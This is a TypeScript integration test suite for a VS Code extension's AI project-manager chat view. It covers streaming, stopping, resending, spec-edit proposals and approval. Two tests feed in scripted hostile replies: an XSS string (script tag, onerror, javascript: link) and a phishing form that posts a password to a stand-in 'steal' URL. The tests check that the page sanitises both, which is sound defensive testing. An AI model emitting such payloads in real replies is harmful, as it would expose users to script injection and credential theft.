import * as assert from "node:assert/strict";
import { promises as fs } from "node:fs";
import os from "node:os";
import path from "node:path";
import * as vscode from "vscode";
import type { RenderReport } from "../../src/protocol/viewState";
import type { NewProjectResult } from "../../src/features/projects/projectsFeature";
import { activateRedgreen, eventually, EXTENSION_ID, openView } from "./harness";
import { startScriptedOpenAi } from "../fixtures/scriptedOpenAi";
import { ui } from "./ui";

describe("The PM in the Chat view", function () {
  this.timeout(120_000);
  const config = () => vscode.workspace.getConfiguration("redgreen");
  const folder = path.join(os.tmpdir(), `redgreen-it-chat-${process.pid}`);
  const specFile = path.join(folder, "SPEC.md");
  let projectId = "";
  let requestId = 0;

  const details = async (): Promise<NonNullable<RenderReport["details"]>> => {
    const { views } = await activateRedgreen();
    const report = await views.chat.endpoint.request("describe", {});
    assert.equal(report.showing, "project");
    return report.details ?? {};
  };
  /** What the page does when the human presses Enter (the test cannot type into the webview). */
  const say = async (text: string, resend = false) => {
    const { views } = await activateRedgreen();
    views.chat.endpoint.receive({ kind: "request", id: `test-${++requestId}`, method: "send", params: { projectId, text, ...(resend ? { resend } : {}) } });
  };
  const pageAsks = async (method: string, params: Record<string, unknown>) => {
    const { views } = await activateRedgreen();
    views.chat.endpoint.receive({ kind: "request", id: `test-${++requestId}`, method, params });
  };
  const useRegistry = async (registry: unknown) => {
    const { models } = await activateRedgreen();
    await config().update("models.registry", registry, vscode.ConfigurationTarget.Global);
    await models.reload();
  };
  /** Waits until the page shows at least `entries` messages and nothing streaming. */
  const turnOver = (entries: number) =>
    eventually(async () => {
      const now = await details();
      return now.streaming === false && Number(now.entries) >= entries ? now : undefined;
    }, 60_000, () => `the PM's turn did not end with ${entries} messages shown`);
  const shown = async () => Number((await details()).entries);

  before(async () => {
    await activateRedgreen();
    // This suite is about the board (the chat), not pairs: planned tickets stay where the plan put them.
    await config().update("pairs.autoStart", false, vscode.ConfigurationTarget.Global);
    await config().update("models.threads", 2, vscode.ConfigurationTarget.Global);
    const result = await vscode.commands.executeCommand<NewProjectResult>("redgreen.newProject", { folder, name: "Chat Demo", priority: "medium", testCommand: "npm test" });
    assert.equal(result.error, undefined);
    projectId = result.project!._id;
    await openView("chat");
  });

  after(async () => {
    await config().update("models.registry", undefined, vscode.ConfigurationTarget.Global);
    await config().update("pairs.autoStart", undefined, vscode.ConfigurationTarget.Global);
    await config().update("models.threads", undefined, vscode.ConfigurationTarget.Global);
    await vscode.commands.executeCommand("workbench.action.closeAllEditors");
    await fs.rm(folder, { recursive: true, force: true });
  });

  it("shows the new project and an empty conversation", async () => {
    const shown = await eventually(async () => ((await details()).entries === 0 ? details() : undefined), 10_000, () => "no empty chat");
    assert.equal(shown.streaming, false);
  });

  it("says when no model is configured and offers Select Model Files, keeping the message", async () => {
    await useRegistry(undefined);
    await say("Hello PM");
    const shown = await eventually(async () => ((await details()).notice === "error" ? details() : undefined), 20_000, () => "no error notice");
    assert.match(String(shown.noticeText), /Select Model Files/);
    assert.equal(shown.lastText, "Hello PM");
  });

  it("streams a reply from a real local model, and keeps the conversation when the view reloads", async () => {
    const modelPath = process.env.REDGREEN_TEST_CHAT_MODEL;
    assert.ok(modelPath);
    await useRegistry({ models: [{ id: "reasoning", backend: "local", path: modelPath, contextSize: 2048 }] });
    await say("What should the spec cover first?");
    const { log } = await activateRedgreen();
    let sawStreaming = false;
    let phaseShown = "";
    await eventually(async () => {
      const now = await details();
      if (now.streaming && String(now.streamed).length > 0) sawStreaming = true;
      if (now.streaming && /\d:\d\d$/.test(String(now.phaseShown)) && !phaseShown) {
        phaseShown = String(now.phaseShown);
        if (ui.available) await ui.window(1).screenshot(path.join(vscode.extensions.getExtension(EXTENSION_ID)!.extensionPath, ".cache", "integration-chat-phase.png"));
      }
      return now.streaming === false && now.lastFrom === "pm" ? true : undefined;
    }, 60_000, () => `the PM did not answer; the log ends:\n${log.recent().slice(-25).map((e) => `[${e.level}] ${e.message}`).join("\n")}`);
    assert.ok(sawStreaming, "tokens were shown while the reply was generated");
    assert.match(String((await details()).phases), /^classifying,answering/, "the page was told each phase of the turn");
    assert.match(phaseShown, /^(Reading your message|Answering|Drafting an edit of the spec)… \d+:\d\d$/, "and showed it with its elapsed time");
    if (ui.available) assert.match(String(await ui.text(".log", ".entry:last-of-type .who .at")), /^\d{1,2}:\d{2}/, "each message shows its time");
    const before = await details();
    assert.ok(Number(before.entries) >= 3);

    const { views } = await activateRedgreen();
    await vscode.commands.executeCommand(`${views.chat.viewId}.toggleVisibility`);
    await vscode.commands.executeCommand(`${views.chat.viewId}.toggleVisibility`);
    await openView("chat");
    const after = await eventually(async () => ((await details()).entries === before.entries ? details() : undefined), 20_000, () => "the conversation did not come back");
    assert.equal(after.lastText, before.lastText);
  });

  it("stops a reply when asked, and keeps what was said so far", async () => {
    const server = await startScriptedOpenAi((request) => (request.schema ? '{"intent":"question"}' : "word ".repeat(5000)), { paceMs: 10 });
    try {
      await useRegistry({ models: [{ id: "reasoning", backend: "openai", url: server.url, model: "scripted" }] });
      const before = await shown();
      await say("Tell me everything");
      // Stopped once words have come (the page learns of the turn earlier, at its first phase).
      const streaming = await eventually(async () => {
        const now = await details();
        return now.streaming === true && String(now.streamed).length > 0 ? now : undefined;
      }, 20_000, () => "no streaming");
      const { views } = await activateRedgreen();
      views.chat.endpoint.receive({ kind: "notification", method: "stop", params: { turnId: String(streaming.turnId) } });
      const done = await turnOver(before + 2);
      assert.match(String(done.lastText), /^word word .*\*\(stopped\)\*$/s);
      assert.ok(String(done.lastText).length < 5000 * 5, "generation ended early");
    } finally {
      await server.close();
    }
  });

  it("proposes a spec edit from a scripted model, shows it as a diff, and changes the spec only when accepted", async () => {
    const server = await startScriptedOpenAi((request) => {
      if (request.schema?.properties?.intent) return '{"intent":"change"}';
      if (request.schema?.properties?.section) return JSON.stringify({ summary: "Add gift cards as a Should have.", section: "Should have", text: "- **R-2**: Gift cards can pay for orders.\n  - Acceptance: a valid card code reduces the total." });
      return "I will add gift cards to the Should have section.";
    });
    try {
      await useRegistry({ models: [{ id: "reasoning", backend: "openai", url: server.url, model: "scripted" }] });
      const original = await fs.readFile(specFile, "utf8");
      await say("Please add gift cards");
      const offered = await eventually(async () => ((await details()).notice === "proposal" ? details() : undefined), 20_000, () => "no proposal shown");
      assert.match(String(offered.noticeText), /Add gift cards as a Should have/);
      assert.equal(await fs.readFile(specFile, "utf8"), original, "nothing is written before the human accepts");

      await pageAsks("showProposal", { proposalId: String(offered.proposalId) });
      const diff = await eventually(() => {
        const input = vscode.window.tabGroups.activeTabGroup.activeTab?.input;
        return input instanceof vscode.TabInputTextDiff ? input : undefined;
      }, 10_000, () => "no diff editor");
      assert.equal(diff.modified.scheme, "redgreen-proposal");
      assert.match((await vscode.workspace.openTextDocument(diff.modified)).getText(), /Gift cards can pay for orders/);

      await pageAsks("decideProposal", { proposalId: String(offered.proposalId), accept: true });
      await eventually(async () => ((await fs.readFile(specFile, "utf8")).includes("Gift cards can pay") ? true : undefined), 10_000, () => "the spec was not changed");
      const changed = await fs.readFile(specFile, "utf8");
      assert.ok(!changed.includes("Something important but not vital"), "the section's body was replaced");
      assert.ok(changed.includes("A first thing the product must do"), "other sections are untouched");
    } finally {
      await server.close();
    }
  });

  it("shows a failed reply with Resend, and resending does not repeat the message", async () => {
    let failures = 2; // the ModelManager retries once: both attempts fail
    const server = await startScriptedOpenAi((request) => {
      if (failures-- > 0) throw new Error("model server overloaded");
      return request.schema ? '{"intent":"question"}' : "Back again: R-1 first.";
    });
    try {
      await useRegistry({ models: [{ id: "reasoning", backend: "openai", url: server.url, model: "scripted" }] });
      const before = Number((await details()).entries);
      await say("Which requirement first?");
      const failed = await eventually(async () => ((await details()).notice === "error" ? details() : undefined), 20_000, () => "no error shown");
      assert.match(String(failed.noticeText), /The PM could not answer:.*Resend/s);
      assert.equal(server.requests.length, 2, "tried twice before reporting");
      await say("Which requirement first?", true);
      const answered = await turnOver(before + 2);
      assert.equal(answered.lastText, "Back again: R-1 first.");
      assert.equal(Number(answered.entries), before + 2, "one human message, one reply");
    } finally {
      await server.close();
    }
  });

  it("renders Markdown from the model without letting anything active into the page", async () => {
    const hostile = "**Bold** and `code`\n\n```ts\nconst x = 1;\n```\n\n<img src=x onerror=\"alert(1)\"><script>alert(2)</script>[link](javascript:alert(3)) <iframe src=\"https://example.com\"></iframe>";
    const server = await startScriptedOpenAi((request) => (request.schema ? '{"intent":"question"}' : hostile));
    try {
      await useRegistry({ models: [{ id: "reasoning", backend: "openai", url: server.url, model: "scripted" }] });
      const before = await shown();
      await say("Show me some code");
      const page = await turnOver(before + 2);
      assert.equal(page.unsafe, 0);
      assert.match(String(page.rendered), /<strong>Bold<\/strong>/);
      assert.match(String(page.rendered), /<pre><code class="language-ts">const x = 1;/);
      assert.doesNotMatch(String(page.rendered), /onerror|<script|<iframe|javascript:/);
    } finally {
      await server.close();
    }
  });

  it("renders no form or form control from a model's reply, so a reply cannot ask for and post the user's input", async () => {
    const phishing = 'Please confirm:\n\n<form action="https://example.com/steal" method="post"><label for="pw">Password</label><input id="pw" name="pw" type="password"><select name="s"><option>one</option></select><textarea name="t">notes</textarea><button type="submit" formaction="https://example.com/other">Send</button></form>';
    const server = await startScriptedOpenAi((request) => (request.schema ? '{"intent":"question"}' : phishing));
    try {
      await useRegistry({ models: [{ id: "reasoning", backend: "openai", url: server.url, model: "scripted" }] });
      const before = await shown();
      await say("What do you need from me?");
      const page = await turnOver(before + 2);
      assert.match(String(page.rendered), /Please confirm:/);
      assert.match(String(page.rendered), /<label for="pw">Password<\/label>/, "a label is harmless and kept");
      assert.doesNotMatch(String(page.rendered), /<(form|input|button|select|option|textarea)\b|action=/i);
    } finally {
      await server.close();
    }
  });

  it("serves the chat page with a CSP that forbids form submissions, a <base> and frames", async function () {
    if (!ui.available) this.skip();
    const csp = String(await ui.attribute(".log", 'meta[http-equiv="Content-Security-Policy"]', "content"));
    const directives = csp.split(";").map((directive) => directive.trim());
    for (const wanted of ["default-src 'none'", "form-action 'none'", "base-uri 'none'", "frame-src 'none'"]) {
      assert.ok(directives.includes(wanted), `the CSP lacks ${wanted}: ${csp}`);
    }
  });

  it("asks for confirmation before approving, then approves through the same path as the CodeLens", async () => {
    const server = await startScriptedOpenAi((request) => (request.schema ? '{"intent":"approve"}' : "Great, confirm with the button and I will approve it."));
    try {
      await useRegistry({ models: [{ id: "reasoning", backend: "openai", url: server.url, model: "scripted" }] });
      await say("Looks good, go ahead");
      const offered = await eventually(async () => ((await details()).notice === "approval" ? details() : undefined), 20_000, () => "no approval question");
      const { store } = await activateRedgreen();
      const state = await store.ready();
      assert.equal(state.kind, "open");
      const memory = (state).memory;
      assert.equal(await memory.projects.approvedSpec(projectId), undefined, "nothing is approved before the click");
      await pageAsks("approveSpec", { projectId, approvalId: "made-up" });
      await new Promise((resolve) => setTimeout(resolve, 300));
      assert.equal(await memory.projects.approvedSpec(projectId), undefined, "an approval the host did not offer is refused");
      await pageAsks("approveSpec", { projectId, approvalId: String(offered.approvalId) });
      await eventually(async () => ((await memory.projects.get(projectId))?.state === "approved" ? true : undefined), 10_000, () => "not approved");
      assert.equal((await memory.projects.approvedSpec(projectId))?.version, 1);
    } finally {
      await server.close();
    }
  });
});
